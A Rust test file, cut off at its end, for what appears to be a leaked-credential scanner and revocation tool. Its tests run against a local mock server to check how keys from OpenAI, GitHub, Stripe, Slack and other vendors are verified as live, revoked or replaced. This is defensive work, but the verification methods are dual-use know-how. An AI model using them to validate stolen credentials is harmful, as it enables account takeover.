//! Providers against a mock HTTP server on 127.0.0.1: every verification outcome (live,
//! revoked, restricted, rate limited, server error, timeout, garbage), the OpenAI Admin API
//! (pagination, service accounts, replacements), the other vendors, and `scan --verify`.

use crate::support::mock_server::{MockServer, Reply, Request};
use crate::support::{jsonl, keys, stderr, stdout, Sandbox};
use keywarden::core::environment::Environment;
use keywarden::core::provider::anthropic::Anthropic;
use keywarden::core::provider::github::GitHub;
use keywarden::core::provider::gitlab::GitLab;
use keywarden::core::provider::google::Google;
use keywarden::core::provider::huggingface::HuggingFace;
use keywarden::core::provider::openai::{self, Deleted, KeyOwner, OpenAi};
use keywarden::core::provider::slack::Slack;
use keywarden::core::provider::stripe::Stripe;
use keywarden::core::provider::{
    Credentials, Http, HttpConfig, Provider, ProviderError, ProviderId, Providers, Revocation,
};
use keywarden::core::secret::{Liveness, Secret};
use serde_json::json;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

fn http() -> Http {
    Http::new(HttpConfig {
        connect_timeout: Duration::from_secs(5),
        timeout: Duration::from_secs(10),
        retries: 3,
        max_retry_wait: Duration::from_secs(5),
    })
    .expect("http client")
}

/// Every provider at its default base (nothing set in the environment).
fn providers(http: Http) -> Providers {
    Providers::new(http, &Environment::default())
}

fn openai_at(server: &MockServer) -> OpenAi {
    OpenAi::new(http(), format!("{}/v1", server.url()))
}

fn bearer(req: &Request) -> Option<String> {
    req.header("Authorization")
        .and_then(|h| h.strip_prefix("Bearer "))
        .map(str::to_string)
}

fn invalid_api_key() -> Reply {
    Reply::json(
        401,
        json!({"error": {"message": "Incorrect API key provided.", "type": "invalid_request_error", "param": null, "code": "invalid_api_key"}}),
    )
}

fn models() -> Reply {
    Reply::json(
        200,
        json!({"object": "list", "data": [{"id": "gpt-4o", "object": "model"}]}),
    )
}

// ---- OpenAI liveness ---------------------------------------------------------------------

#[test]
fn openai_live_key_is_live_and_sent_only_in_the_header() {
    let key = keys::openai_project();
    let expected = key.clone();
    let server = MockServer::start(move |req| {
        if req.is("GET", "/v1/models") && bearer(req).as_deref() == Some(expected.as_str()) {
            models()
        } else {
            Reply::not_found()
        }
    });
    let answer = openai_at(&server).verify(&Secret::new(key.clone()));
    assert_eq!(answer.liveness, Liveness::Live, "{answer:?}");
    assert!(!answer.restricted);
    let requests = server.requests();
    assert_eq!(requests.len(), 1);
    assert!(
        !requests[0].url.contains(&key),
        "the key must not be in a URL"
    );
}

#[test]
fn openai_revoked_key_is_dead() {
    let server = MockServer::start(|_| invalid_api_key());
    let answer = openai_at(&server).verify(&Secret::new(keys::openai_legacy()));
    assert_eq!(answer.liveness, Liveness::Dead);
    assert!(
        answer.reason.contains("invalid_api_key"),
        "{}",
        answer.reason
    );
}

#[test]
fn openai_restricted_key_is_live() {
    let server = MockServer::start(|_| {
        Reply::json(
            401,
            json!({"error": {"message": "You have insufficient permissions for this operation. Missing scopes: model.read. Check that you have the correct role in your organization.", "type": "invalid_request_error", "param": null, "code": null}}),
        )
    });
    let answer = openai_at(&server).verify(&Secret::new(keys::openai_project()));
    assert_eq!(answer.liveness, Liveness::Live);
    assert!(answer.restricted);
}

#[test]
fn openai_429_waits_for_retry_after_then_succeeds() {
    let calls = Arc::new(AtomicUsize::new(0));
    let counter = Arc::clone(&calls);
    let server = MockServer::start(move |_| {
        if counter.fetch_add(1, Ordering::SeqCst) == 0 {
            Reply::json(
                429,
                json!({"error": {"message": "Rate limit reached", "code": "rate_limit_exceeded"}}),
            )
            .header("Retry-After", "1")
        } else {
            models()
        }
    });
    let answer = openai_at(&server).verify(&Secret::new(keys::openai_project()));
    assert_eq!(answer.liveness, Liveness::Live, "{answer:?}");
    assert_eq!(server.count("GET", "/v1/models"), 2);
}

#[test]
fn openai_429_with_a_long_retry_after_is_unknown_without_waiting() {
    let server = MockServer::start(|_| {
        Reply::json(
            429,
            json!({"error": {"message": "Rate limit reached", "code": "rate_limit_exceeded"}}),
        )
        .header("Retry-After", "3600")
    });
    let answer = openai_at(&server).verify(&Secret::new(keys::openai_project()));
    assert_eq!(answer.liveness, Liveness::Unknown);
    assert!(answer.reason.contains("429"), "{}", answer.reason);
    assert_eq!(server.count("GET", "/v1/models"), 1);
}

#[test]
fn retries_are_bounded() {
    let server = MockServer::start(|_| Reply::text(429, "slow down").header("Retry-After", "0"));
    let answer = openai_at(&server).verify(&Secret::new(keys::openai_project()));
    assert_eq!(answer.liveness, Liveness::Unknown);
    assert_eq!(
        server.count("GET", "/v1/models"),
        4,
        "one try plus three retries"
    );
}

#[test]
fn openai_no_credit_is_still_live() {
    let server = MockServer::start(|_| {
        Reply::json(
            429,
            json!({"error": {"message": "You exceeded your current quota", "code": "insufficient_quota"}}),
        )
    });
    let answer = openai_at(&server).verify(&Secret::new(keys::openai_project()));
    assert_eq!(answer.liveness, Liveness::Live);
}

#[test]
fn server_errors_are_unknown_never_dead() {
    let server = MockServer::start(|_| Reply::text(500, "internal error"));
    let answer = openai_at(&server).verify(&Secret::new(keys::openai_project()));
    assert_eq!(answer.liveness, Liveness::Unknown);
    assert!(answer.reason.contains("500"), "{}", answer.reason);
}

#[test]
fn a_timeout_is_unknown_never_dead() {
    let server = MockServer::start(|_| models().delayed(Duration::from_secs(5)));
    let quick = Http::new(HttpConfig {
        connect_timeout: Duration::from_secs(2),
        timeout: Duration::from_millis(300),
        retries: 0,
        max_retry_wait: Duration::ZERO,
    })
    .expect("http client");
    let answer = OpenAi::new(quick, format!("{}/v1", server.url()))
        .verify(&Secret::new(keys::openai_project()));
    assert_eq!(answer.liveness, Liveness::Unknown);
    assert!(answer.reason.contains("timed out"), "{}", answer.reason);
}

#[test]
fn an_unreachable_provider_is_unknown_never_dead() {
    let port = {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
        listener.local_addr().expect("addr").port()
    };
    let key = keys::openai_project();
    let answer = OpenAi::new(http(), format!("http://127.0.0.1:{port}/v1"))
        .verify(&Secret::new(key.clone()));
    assert_eq!(answer.liveness, Liveness::Unknown);
    assert!(!answer.reason.contains(&key));
}

#[test]
fn a_200_whose_body_is_not_the_providers_json_is_unknown_not_live() {
    // A captive portal or a proxy's page answers 200 too.
    let server = MockServer::start(|_| Reply::text(200, "<html>Sign in to the Wi-Fi</html>"));
    let answer = openai_at(&server).verify(&Secret::new(keys::openai_project()));
    assert_eq!(answer.liveness, Liveness::Unknown, "{answer:?}");
    assert!(answer.reason.contains("unreadable"), "{}", answer.reason);
    let gitlab = GitLab::new(http(), format!("{}/api/v4", server.url()));
    assert_eq!(
        gitlab
            .verify(&Secret::new(keys::fake("glpat-{alnum_:20}")))
            .liveness,
        Liveness::Unknown
    );
    let github = GitHub::new(http(), server.url());
    assert_eq!(
        github.verify(&Secret::new(keys::github_pat())).liveness,
        Liveness::Unknown
    );
}

#[test]
fn malformed_json_is_unknown() {
    let server = MockServer::start(|_| Reply::text(401, "<html>Unauthorized</html>"));
    let answer = openai_at(&server).verify(&Secret::new(keys::openai_project()));
    assert_eq!(answer.liveness, Liveness::Unknown, "{answer:?}");
}

// ---- OpenAI Admin API --------------------------------------------------------------------

/// The tail that OpenAI's `redacted_value` shows for `key`.
fn redacted_value(key: &str) -> String {
    format!("{}...{}", &key[..8], &key[key.len() - 4..])
}

fn project_key(
    id: &str,
    name: &str,
    redacted: &str,
    owner: serde_json::Value,
) -> serde_json::Value {
    json!({
        "object": "organization.project.api_key",
        "redacted_value": redacted,
        "name": name,
        "created_at": 1_711_471_533,
        "last_used_at": 1_711_471_534,
        "id": id,
        "owner": owner,
    })
}

fn user_owner() -> serde_json::Value {
    json!({"type": "user", "user": {"object": "organization.project.user", "id": "user_abc", "name": "Ada Lovelace", "email": "ada@example.com", "role": "owner"}})
}

fn service_account_owner() -> serde_json::Value {
    json!({"type": "service_account", "service_account": {"object": "organization.project.service_account", "id": "svc_acct_9", "name": "deploy-bot", "role": "member"}})
}

/// An organization with two pages of projects; the leaked key is on the second page of the
/// second project's keys.
fn admin_server(admin: &str, leaked: &str, owner: serde_json::Value) -> MockServer {
    let admin = admin.to_string();
    let leaked_redacted = redacted_value(leaked);
    MockServer::start(move |req| {
        if bearer(req).as_deref() != Some(admin.as_str()) {
            return invalid_api_key();
        }
        let page = |data: serde_json::Value, has_more: bool, last: &str| {
            Reply::json(
                200,
                json!({"object": "list", "data": data, "first_id": "x", "last_id": last, "has_more": has_more}),
            )
        };
        match (req.method.as_str(), req.path()) {
            ("GET", "/v1/organization/projects") => match req.query("after").as_deref() {
                None => page(json!([{"id": "proj_1", "name": "Web"}]), true, "proj_1"),
                Some("proj_1") => page(
                    json!([{"id": "proj_2", "name": "Backend"}]),
                    false,
                    "proj_2",
                ),
                Some(_) => Reply::not_found(),
            },
            ("GET", "/v1/organization/projects/proj_1/api_keys") => page(
                json!([project_key(
                    "key_other",
                    "other",
                    "sk-proj-zz...zzzz",
                    user_owner()
                )]),
                false,
                "key_other",
            ),
            ("GET", "/v1/organization/projects/proj_2/api_keys") => {
                match req.query("after").as_deref() {
                    None => page(
                        json!([project_key(
                            "key_a",
                            "ci",
                            "sk-proj-yy...yyyy",
                            user_owner()
                        )]),
                        true,
                        "key_a",
                    ),
                    Some("key_a") => page(
                        json!([project_key(
                            "key_leaked",
                            "laptop",
                            &leaked_redacted,
                            owner.clone()
                        )]),
                        false,
                        "key_leaked",
                    ),
                    Some(_) => Reply::not_found(),
                }
            }
            ("DELETE", "/v1/organization/projects/proj_2/api_keys/key_leaked") => {
                if owner["type"] == "service_account" {
                    Reply::json(
                        400,
                        json!({"error": {"message": "Service account API keys cannot be deleted; delete the service account instead", "code": null}}),
                    )
                } else {
                    Reply::json(
                        200,
                        json!({"object": "organization.project.api_key.deleted", "id": "key_leaked", "deleted": true}),
                    )
                }
            }
            ("DELETE", "/v1/organization/projects/proj_2/service_accounts/svc_acct_9") => {
                Reply::json(
                    200,
                    json!({"object": "organization.project.service_account.deleted", "id": "svc_acct_9", "deleted": true}),
                )
            }
            ("POST", "/v1/organization/projects/proj_2/service_accounts/svc_acct_9/api_keys") => {
                Reply::json(
                    200,
                    json!({"object": "organization.project.service_account.api_key", "value": keys::openai_project(), "name": "keywarden-deploy", "created_at": 1_711_471_700, "id": "key_sa_new"}),
                )
            }
            ("POST", "/v1/organization/projects/proj_2/service_accounts") => {
                let body: serde_json::Value =
                    serde_json::from_str(&req.body).unwrap_or(serde_json::Value::Null);
                Reply::json(
                    200,
                    json!({
                        "object": "organization.project.service_account",
                        "id": "svc_acct_new",
                        "name": body["name"],
                        "role": "member",
                        "created_at": 1_711_471_600,
                        "api_key": {"object": "organization.project.service_account.api_key", "value": keys::openai_project(), "name": "Secret Key", "created_at": 1_711_471_600, "id": "key_new"}
                    }),
                )
            }
            _ => Reply::not_found(),
        }
    })
}

#[test]
fn admin_api_finds_a_key_across_paginated_projects_and_keys() {
    let admin = keys::openai_admin();
    let leaked = keys::openai_project();
    let server = admin_server(&admin, &leaked, user_owner());
    let openai = openai_at(&server);
    let found = openai
        .find_unique_key(&Secret::new(admin), &Secret::new(leaked))
        .expect("found");
    assert_eq!(found.id, "key_leaked");
    assert_eq!(found.name, "laptop");
    assert_eq!(found.project.id, "proj_2");
    assert_eq!(found.project.name, "Backend");
    assert!(
        matches!(&found.owner, KeyOwner::User { email: Some(e), .. } if e == "ada@example.com")
    );
    assert_eq!(found.created_at.map(|t| t.timestamp()), Some(1_711_471_533));
    assert!(found.last_used_at.is_some());
    let urls: Vec<String> = server.requests().into_iter().map(|r| r.url).collect();
    assert!(
        urls.iter()
            .any(|u| u.contains("/organization/projects?") && u.contains("after=proj_1")),
        "{urls:?}"
    );
    assert!(
        urls.iter()
            .any(|u| u.contains("proj_2/api_keys?") && u.contains("after=key_a")),
        "{urls:?}"
    );
}

#[test]
fn admin_revoke_deletes_a_user_key() {
    let admin = keys::openai_admin();
    let leaked = keys::openai_project();
    let server = admin_server(&admin, &leaked, user_owner());
    let creds = Credentials::default().with_admin(ProviderId::OpenAi, Secret::new(admin));
    let openai = openai_at(&server);
    let leaked = Secret::new(leaked);
    let found = openai
        .locate(&leaked, &creds)
        .expect("looked up")
        .expect("found");
    let result = openai
        .revoke(&leaked, Some(&found), &creds)
        .expect("revoked");
    assert!(
        matches!(&result, Revocation::Revoked { detail } if detail.contains("key_leaked")),
        "{result:?}"
    );
    assert_eq!(
        server.count(
            "DELETE",
            "/v1/organization/projects/proj_2/api_keys/key_leaked"
        ),
        1
    );
}

#[test]
fn admin_revoke_of_a_service_account_key_deletes_the_service_account() {
    let admin = Secret::new(keys::openai_admin());
    let leaked = keys::openai_project();
    let server = admin_server(admin.expose(), &leaked, service_account_owner());
    let openai = openai_at(&server);
    let found = openai
        .find_unique_key(&admin, &Secret::new(leaked))
        .expect("found");
    assert!(matches!(&found.owner, KeyOwner::ServiceAccount { id, .. } if id == "svc_acct_9"));
    let deleted = openai.delete_key(&admin, &found).expect("deleted");
    assert_eq!(
        deleted,
        Deleted::ServiceAccount {
            id: "svc_acct_9".into()
        }
    );
    assert_eq!(
        server.count(
            "DELETE",
            "/v1/organization/projects/proj_2/service_accounts/svc_acct_9"
        ),
        1
    );
}

#[test]
fn admin_creates_a_replacement_in_the_same_project() {
    let admin = keys::openai_admin();
    let leaked = keys::openai_project();
    let server = admin_server(&admin, &leaked, user_owner());
    let creds = Credentials::default().with_admin(ProviderId::OpenAi, Secret::new(admin));
    let openai = openai_at(&server);
    let found = openai
        .locate(&Secret::new(leaked.clone()), &creds)
        .expect("looked up")
        .expect("found");
    let made = openai
        .create_replacement(&found, "keywarden-laptop", &creds)
        .expect("created");
    assert!(made.key.expose().starts_with("sk-proj-"));
    assert_ne!(made.key.expose(), leaked);
    assert!(made.detail.contains("Backend"), "{}", made.detail);
    let posts: Vec<Request> = server
        .requests()
        .into_iter()
        .filter(|r| r.is("POST", "/v1/organization/projects/proj_2/service_accounts"))
        .collect();
    assert_eq!(posts.len(), 1);
    assert!(posts[0].body.contains("keywarden-laptop"));
}

#[test]
fn admin_replaces_a_service_account_key_with_another_key_of_the_same_account() {
    let admin = keys::openai_admin();
    let leaked = keys::openai_project();
    let server = admin_server(&admin, &leaked, service_account_owner());
    let creds = Credentials::default().with_admin(ProviderId::OpenAi, Secret::new(admin));
    let openai = openai_at(&server);
    let found = openai
        .locate(&Secret::new(leaked.clone()), &creds)
        .expect("looked up")
        .expect("found");
    assert!(openai.can_create_replacement(&found, &creds));
    let made = openai
        .create_replacement(&found, "keywarden-deploy", &creds)
        .expect("created");
    assert!(made.key.expose().starts_with("sk-proj-"));
    assert_ne!(made.key.expose(), leaked);
    assert!(made.detail.contains("svc_acct_9"), "{}", made.detail);
    assert!(made.id.contains("key_sa_new"), "{}", made.id);
    assert_eq!(made.created.map(|t| t.timestamp()), Some(1_711_471_700));
    assert_eq!(
        server.count(
            "POST",
            "/v1/organization/projects/proj_2/service_accounts/svc_acct_9/api_keys"
        ),
        1
    );
    assert_eq!(
        server.count("POST", "/v1/organization/projects/proj_2/service_accounts"),
        0,
        "no new service account for a service account's key"
    );
    // Without an admin key nothing can be created or looked up.
    assert!(!openai.can_create_replacement(&found, &Credentials::default()));
    assert!(openai
        .locate(&Secret::new(leaked), &Credentials::default())
        .expect("no lookup")
        .is_none());
}

#[test]
fn a_service_account_with_other_keys_is_never_deleted_to_revoke_one() {
    let admin = keys::openai_admin();
    let leaked = keys::openai_project();
    let (admin_m, redacted) = (admin.clone(), redacted_value(&leaked));
    let server = MockServer::start(move |req| {
        if bearer(req).as_deref() != Some(admin_m.as_str()) {
            return invalid_api_key();
        }
        let list = |data: serde_json::Value| {
            Reply::json(
                200,
                json!({"object": "list", "data": data, "has_more": false}),
            )
        };
        match (req.method.as_str(), req.path()) {
            ("GET", "/v1/organization/projects") => {
                list(json!([{"id": "proj_2", "name": "Backend"}]))
            }
            ("GET", "/v1/organization/projects/proj_2/api_keys") => list(json!([
                project_key("key_leaked", "deploy", &redacted, service_account_owner()),
                project_key(
                    "key_next",
                    "keywarden-deploy",
                    "sk-proj-ab...cdef",
                    service_account_owner()
                ),
            ])),
            ("DELETE", "/v1/organization/projects/proj_2/api_keys/key_leaked") => Reply::json(
                400,
                json!({"error": {"message": "Service account API keys cannot be deleted", "code": null}}),
            ),
            _ => Reply::not_found(),
        }
    });
    let creds = Credentials::default().with_admin(ProviderId::OpenAi, Secret::new(admin));
    let openai = openai_at(&server);
    let leaked = Secret::new(leaked);
    let found = openai
        .locate(&leaked, &creds)
        .expect("looked up")
        .expect("found");
    let err = openai
        .revoke(&leaked, Some(&found), &creds)
        .expect_err("refused");
    assert!(err.to_string().contains("keywarden-deploy"), "{err}");
    assert_eq!(
        server.count(
            "DELETE",
            "/v1/organization/projects/proj_2/service_accounts/svc_acct_9"
        ),
        0
    );
}

#[test]
fn admin_lookup_of_an_unknown_key_is_a_clear_error() {
    let admin = keys::openai_admin();
    let server = admin_server(&admin, &keys::openai_project(), user_owner());
    let other = keys::openai_project();
    let err = openai_at(&server)
        .find_unique_key(&Secret::new(admin), &Secret::new(other.clone()))
        .expect_err("not found");
    assert!(matches!(err, ProviderError::NotFound(_)));
    assert!(!err.to_string().contains(&other));
}

#[test]
fn admin_api_malformed_json_is_an_error() {
    let server = MockServer::start(|_| Reply::text(200, "{\"data\": [oops"));
    let err = openai_at(&server)
        .list_projects(&Secret::new(keys::openai_admin()))
        .expect_err("malformed");
    assert!(matches!(err, ProviderError::Malformed { .. }), "{err}");
}

#[test]
fn a_refused_admin_key_says_so() {
    let server = MockServer::start(|_| invalid_api_key());
    let admin = keys::openai_admin();
    let err = openai_at(&server)
        .list_projects(&Secret::new(admin.clone()))
        .expect_err("refused");
    let text = err.to_string();
    assert!(text.contains("admin key was refused"), "{text}");
    assert!(!text.contains(&admin));
}

#[test]
fn openai_without_admin_key_gives_manual_steps_and_the_page() {
    let server = MockServer::start(|_| Reply::not_found());
    let key = keys::openai_project();
    let result = openai_at(&server)
        .revoke(&Secret::new(key.clone()), None, &Credentials::default())
        .expect("manual");
    let Revocation::Manual(steps) = result else {
        panic!("expected manual steps, got {result:?}");
    };
    assert_eq!(steps.page.as_deref(), Some(openai::API_KEYS_PAGE));
    assert!(steps.steps.iter().any(|s| s.contains("Revoke key")));
    assert!(steps.steps.iter().all(|s| !s.contains(&key)));
    assert!(server.requests().is_empty());
}

// ---- Other vendors -----------------------------------------------------------------------

#[test]
fn anthropic_verifies_with_x_api_key() {
    let good = keys::anthropic();
    let expected = good.clone();
    let server = MockServer::start(move |req| {
        if req.path() != "/v1/models" || req.header("anthropic-version").is_none() {
            return Reply::not_found();
        }
        if req.header("x-api-key") == Some(expected.as_str()) {
            Reply::json(200, json!({"data": [], "has_more": false}))
        } else {
            Reply::json(
                401,
                json!({"type": "error", "error": {"type": "authentication_error", "message": "invalid x-api-key"}}),
            )
        }
    });
    let anthropic = Anthropic::new(http(), format!("{}/v1", server.url()));
    assert_eq!(
        anthropic.verify(&Secret::new(good)).liveness,
        Liveness::Live
    );
    assert_eq!(
        anthropic.verify(&Secret::new(keys::anthropic())).liveness,
        Liveness::Dead
    );
    let manual = anthropic.manual_steps(&Secret::new(keys::anthropic()));
    assert!(manual
        .page
        .as_deref()
        .is_some_and(|p| p.contains("console.anthropic.com")));
}

#[test]
fn github_verifies_and_revokes_with_the_token_alone() {
    let good = keys::github_pat();
    let expected = good.clone();
    let server = MockServer::start(move |req| match (req.method.as_str(), req.path()) {
        ("GET", "/user") if bearer(req).as_deref() == Some(expected.as_str()) => {
            Reply::json(200, json!({"login": "octocat"}))
        }
        ("GET", "/user") => Reply::json(401, json!({"message": "Bad credentials"})),
        ("POST", "/credentials/revoke") => Reply::json(202, json!({})),
        _ => Reply::not_found(),
    });
    let github = GitHub::new(http(), server.url());
    assert_eq!(
        github.verify(&Secret::new(good.clone())).liveness,
        Liveness::Live
    );
    assert_eq!(
        github.verify(&Secret::new(keys::github_pat())).liveness,
        Liveness::Dead
    );
    let result = github
        .revoke(&Secret::new(good.clone()), None, &Credentials::default())
        .expect("revoked");
    assert!(matches!(result, Revocation::Revoked { .. }));
    let revoke = server
        .requests()
        .into_iter()
        .find(|r| r.is("POST", "/credentials/revoke"))
        .expect("revoke request");
    let body: serde_json::Value = serde_json::from_str(&revoke.body).expect("json body");
    assert_eq!(body["credentials"][0], good.as_str());
    assert!(
        revoke.header("Authorization").is_none(),
        "needs only the token"
    );
}

#[test]
fn github_revocation_failure_is_an_error() {
    let server = MockServer::start(|_| Reply::json(422, json!({"message": "Validation Failed"})));
    let err = GitHub::new(http(), server.url())
        .revoke(
            &Secret::new(keys::github_pat()),
            None,
            &Credentials::default(),
        )
        .expect_err("refused");
    assert!(err.to_string().contains("422"), "{err}");
}

#[test]
fn huggingface_verifies_and_has_manual_revocation() {
    let good = keys::huggingface();
    let expected = good.clone();
    let server = MockServer::start(move |req| {
        if req.path() == "/api/whoami-v2" && bearer(req).as_deref() == Some(expected.as_str()) {
            Reply::json(200, json!({"name": "someone", "type": "user"}))
        } else {
            Reply::json(
                401,
                json!({"error": "Invalid credentials in Authorization header"}),
            )
        }
    });
    let hf = HuggingFace::new(http(), format!("{}/api", server.url()));
    assert_eq!(
        hf.verify(&Secret::new(good.clone())).liveness,
        Liveness::Live
    );
    assert_eq!(
        hf.verify(&Secret::new(keys::huggingface())).liveness,
        Liveness::Dead
    );
    let result = hf
        .revoke(&Secret::new(good), None, &Credentials::default())
        .expect("manual");
    assert!(
        matches!(result, Revocation::Manual(steps) if steps.page.as_deref() == Some("https://huggingface.co/settings/tokens"))
    );
}

fn slack_token() -> String {
    keys::fake("xoxb-{digits:12}-{digits:13}-{alnum:24}")
}

#[test]
fn slack_verifies_with_auth_test_and_revokes_with_auth_revoke() {
    let good = slack_token();
    let expected = good.clone();
    let server = MockServer::start(move |req| {
        let ok = bearer(req).as_deref() == Some(expected.as_str());
        match req.path() {
            "/api/auth.test" if ok => {
                Reply::json(200, json!({"ok": true, "team": "T", "user": "bot"}))
            }
            "/api/auth.test" => Reply::json(200, json!({"ok": false, "error": "invalid_auth"})),
            "/api/auth.revoke" if ok => Reply::json(200, json!({"ok": true, "revoked": true})),
            _ => Reply::not_found(),
        }
    });
    let slack = Slack::new(http(), format!("{}/api", server.url()));
    assert_eq!(
        slack.verify(&Secret::new(good.clone())).liveness,
        Liveness::Live
    );
    let dead = slack.verify(&Secret::new(slack_token()));
    assert_eq!(dead.liveness, Liveness::Dead);
    assert!(dead.reason.contains("invalid_auth"));
    let result = slack
        .revoke(&Secret::new(good), None, &Credentials::default())
        .expect("revoked");
    assert!(matches!(result, Revocation::Revoked { .. }));
    assert_eq!(server.count("POST", "/api/auth.revoke"), 1);
}

#[test]
fn slack_webhooks_are_never_called() {
    let server = MockServer::start(|_| Reply::not_found());
    let slack = Slack::new(http(), format!("{}/api", server.url()));
    let hook = Secret::new(keys::fake(
        "https://hooks.slack.com/services/T{upper32:10}/B{upper32:10}/{alnum:24}",
    ));
    assert_eq!(slack.verify(&hook).liveness, Liveness::Unknown);
    assert!(matches!(
        slack
            .revoke(&hook, None, &Credentials::default())
            .expect("manual"),
        Revocation::Manual(_)
    ));
    assert!(server.requests().is_empty());
}

#[test]
fn stripe_live_dead_and_restricted() {
    let live = keys::stripe_live();
    let restricted = keys::fake("rk_live_{alnum:99}");
    let (l, r) = (live.clone(), restricted.clone());
    let server = MockServer::start(move |req| match bearer(req) {
        Some(k) if k == l => Reply::json(200, json!({"object": "balance"})),
        Some(k) if k == r => Reply::json(
            403,
            json!({"error": {"message": "The provided key does not have the required permissions", "type": "invalid_request_error"}}),
        ),
        _ => Reply::json(
            401,
            json!({"error": {"message": "Invalid API Key provided", "type": "invalid_request_error"}}),
        ),
    });
    let stripe = Stripe::new(http(), format!("{}/v1", server.url()));
    assert_eq!(stripe.verify(&Secret::new(live)).liveness, Liveness::Live);
    let answer = stripe.verify(&Secret::new(restricted));
    assert_eq!(answer.liveness, Liveness::Live);
    assert!(answer.restricted);
    assert_eq!(
        stripe.verify(&Secret::new(keys::stripe_live())).liveness,
        Liveness::Dead
    );
    // A webhook signing secret is not an API key: it is not sent, and not called dead.
    let webhook = Secret::new(keys::fake("whsec_{alnum:32}"));
    let before = server.requests().len();
    assert!(!stripe.can_verify(&webhook));
    assert_eq!(stripe.verify(&webhook).liveness, Liveness::Unknown);
    assert_eq!(server.requests().len(), before);
    assert_eq!(
        stripe.manual_steps(&webhook).page.as_deref(),
        Some("https://dashboard.stripe.com/webhooks")
    );
}

#[test]
fn google_keys_go_in_a_header_not_the_url() {
    let good = keys::fake("AIza{alnum_:35}");
    let expected = good.clone();
    let server = MockServer::start(move |req| {
        if req.header("x-goog-api-key") == Some(expected.as_str()) {
            Reply::json(200, json!({"models": []}))
        } else {
            Reply::json(
                400,
                json!({"error": {"code": 400, "message": "API key not valid. Please pass a valid API key.", "status": "INVALID_ARGUMENT", "details": [{"reason": "API_KEY_INVALID"}]}}),
            )
        }
    });
    let google = Google::new(http(), format!("{}/v1beta", server.url()));
    assert_eq!(
        google.verify(&Secret::new(good.clone())).liveness,
        Liveness::Live
    );
    assert_eq!(
        google
            .verify(&Secret::new(keys::fake("AIza{alnum_:35}")))
            .liveness,
        Liveness::Dead
    );
    assert!(server.requests().iter().all(|r| !r.url.contains(&good)));
}

#[test]
fn gitlab_verifies_with_private_token() {
    let good = keys::fake("glpat-{alnum_:20}");
    let expected = good.clone();
    let server = MockServer::start(move |req| {
        if req.header("PRIVATE-TOKEN") == Some(expected.as_str()) {
            Reply::json(200, json!({"id": 1, "name": "ci", "active": true}))
        } else {
            Reply::json(401, json!({"message": "401 Unauthorized"}))
        }
    });
    let gitlab = GitLab::new(http(), format!("{}/api/v4", server.url()));
    assert_eq!(gitlab.verify(&Secret::new(good)).liveness, Liveness::Live);
    assert_eq!(
        gitlab
            .verify(&Secret::new(keys::fake("glpat-{alnum_:20}")))
            .liveness,
        Liveness::Dead
    );
}

#[test]
fn aws_gets_console_page_and_exact_iam_commands_without_the_key() {
    let http = http();
    let aws = providers(http).get(ProviderId::Aws);
    let key = keys::aws_access_key_id();
    assert_eq!(
        aws.verify(&Secret::new(key.clone())).liveness,
        Liveness::Unknown
    );
    let steps = aws.manual_steps(&Secret::new(key.clone()));
    assert!(steps
        .page
        .as_deref()
        .is_some_and(|p| p.contains("console.aws.amazon.com/iam")));
    let all = steps.steps.join("\n");
    for command in [
        "aws sts get-access-key-info",
        "aws iam update-access-key",
        "--status Inactive",
        "aws iam create-access-key",
        "aws iam delete-access-key",
    ] {
        assert!(all.contains(command), "missing {command}: {all}");
    }
    assert!(!all.contains(&key));
}

#[test]
fn unknown_providers_are_refused_with_the_list() {
    let err = "myspace"
        .parse::<ProviderId>()
        .expect_err("unknown provider");
    let text = err.to_string();
    assert!(
        text.contains("myspace") && text.contains("openai"),
        "{text}"
    );
}

// ---- scan --verify -----------------------------------------------------------------------

#[test]
fn scan_verify_marks_findings_and_checks_each_key_once() {
    let sb = Sandbox::new();
    let live = keys::openai_project();
    let dead = keys::github_pat();
    sb.write(
        ".env",
        format!("OPENAI_API_KEY={live}\nGITHUB_TOKEN={dead}\n"),
    );
    sb.write("config/dev.env", format!("OPENAI_API_KEY={live}\n"));
    let expected = live.clone();
    let server = MockServer::start(move |req| match req.path() {
        "/v1/models" if bearer(req).as_deref() == Some(expected.as_str()) => models(),
        "/v1/models" => invalid_api_key(),
        "/user" => Reply::json(401, json!({"message": "Bad credentials"})),
        _ => Reply::not_found(),
    });
    let out = sb
        .keywarden()
        .args(["scan", "--verify", "--format", "jsonl"])
        .env("KEYWARDEN_OPENAI_BASE_URL", format!("{}/v1", server.url()))
        .env("KEYWARDEN_GITHUB_BASE_URL", server.url())
        .assert()
        .code(1)
        .get_output()
        .clone();
    let rows = jsonl(&out.stdout);
    assert_eq!(rows.len(), 3, "{rows:?}");
    for row in &rows {
        let expected = if row["provider"] == "openai" {
            "live"
        } else {
            "dead"
        };
        assert_eq!(row["verified"], expected, "{row}");
    }
    assert_eq!(
        server.count("GET", "/v1/models"),
        1,
        "each distinct key once"
    );
    assert_eq!(server.count("GET", "/user"), 1);
    let stderr = stderr(&out);
    assert!(stderr.contains("contacting"), "{stderr}");
    assert!(!stderr.contains(&live) && !stderr.contains(&dead));
}

#[test]
fn scan_without_verify_contacts_nobody() {
    let sb = Sandbox::new();
    sb.write(
        ".env",
        format!("OPENAI_API_KEY={}\n", keys::openai_project()),
    );
    let server = MockServer::start(|_| models());
    let out = sb
        .keywarden()
        .args(["scan", "--format", "jsonl"])
        .env("KEYWARDEN_OPENAI_BASE_URL", format!("{}/v1", server.url()))
        .assert()
        .code(1)
        .get_output()
        .clone();
    let rows = jsonl(&out.stdout);
    assert_eq!(rows.len(), 1);
    assert!(rows[0].get("verified").is_none(), "{}", rows[0]);
    assert!(server.requests().is_empty());
}

#[test]
fn scan_verify_with_provider_trouble_reports_unknown_not_an_error() {
    let sb = Sandbox::new();
    let key = keys::openai_project();
    sb.write(".env", format!("OPENAI_API_KEY={key}\n"));
    let server = MockServer::start(|_| Reply::text(503, "maintenance").header("Retry-After", "0"));
    let out = sb
        .keywarden()
        .args(["scan", "--verify", "--format", "jsonl"])
        .env("KEYWARDEN_OPENAI_BASE_URL", format!("{}/v1", server.url()))
        .env("KEYWARDEN_HTTP_TIMEOUT_MS", "5000")
        .assert()
        .code(1)
        .get_output()
        .clone();
    let rows = jsonl(&out.stdout);
    assert_eq!(rows[0]["verified"], "unknown");
    let stderr = stderr(&out);
    assert!(stderr.contains("could not verify"), "{stderr}");
    assert!(!stderr.contains(&key));
}

#[test]
fn proxy_variables_are_honoured_and_loopback_goes_direct() {
    let sb = Sandbox::new();
    sb.write(
